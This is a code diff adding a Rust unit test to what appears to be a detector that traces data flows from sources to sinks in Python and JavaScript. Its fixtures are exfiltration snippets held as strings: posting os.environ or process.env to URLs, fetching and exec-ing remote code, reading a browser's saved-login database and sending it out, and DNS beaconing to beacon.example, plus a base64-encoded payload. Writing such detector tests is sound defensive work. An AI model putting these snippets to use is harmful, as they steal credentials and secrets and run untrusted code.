@@ -147,6 +147,36 @@ fn one_named_variable_is_configuration_unless_its_name_says_secret() {
 }
 
 #[test]
+fn serialised_spread_and_generated_values_keep_their_sources() {
+    let source = "import os, json, base64, requests, socket, getpass, sqlite3\n\
+                  def a(u):\n\
+                  \x20   requests.post(u, data=base64.b64encode(json.dumps(dict(os.environ)).encode())[:4000])\n\
+                  def b(u):\n\
+                  \x20   requests.post(u, json={**os.environ, 'v': 1})\n\
+                  def c(u):\n\
+                  \x20   exec(''.join(chr(x) for x in requests.get(u).content))\n\
+                  def d(base, u):\n\
+                  \x20   rows = sqlite3.connect(os.path.join(base, 'Default', 'Login Data')).execute(q).fetchall()\n\
+                  \x20   requests.post(u, data=str(rows))\n\
+                  def e():\n\
+                  \x20   socket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.beacon.example')\n\
+                  \x20   socket.gethostbyname(socket.gethostname())\n";
+    let found = flows(source, Python);
+    for expected in [
+        ("a", Environment, Network),
+        ("b", Environment, Network),
+        ("c", NetworkDownload, CodeExecution),
+        ("d", BrowserData, Network),
+        ("e", HostInfo, Network),
+    ] {
+        assert!(found.iter().any(|(o, s, k, _, _)| (o.as_str(), *s, *k) == expected), "{expected:?} not in {found:?}");
+    }
+    assert_eq!(found.len(), 5, "{found:?}");
+    let js = "fetch('https://c.example/x', {method: 'POST', body: JSON.stringify({...process.env})});\n";
+    assert_eq!(flows(js, JavaScript), vec![("<module>".to_string(), Environment, Network, 1, 1)]);
+}
+
+#[test]
 fn flows_inside_a_decoded_payload_are_placed_at_the_literal() {
     // base64 of: import os, requests\nrequests.post(u, data=os.environ)\n
     let source = "import base64\n\nexec(base64.b64decode('aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KHUsIGRhdGE9b3MuZW52aXJvbik='))\n";
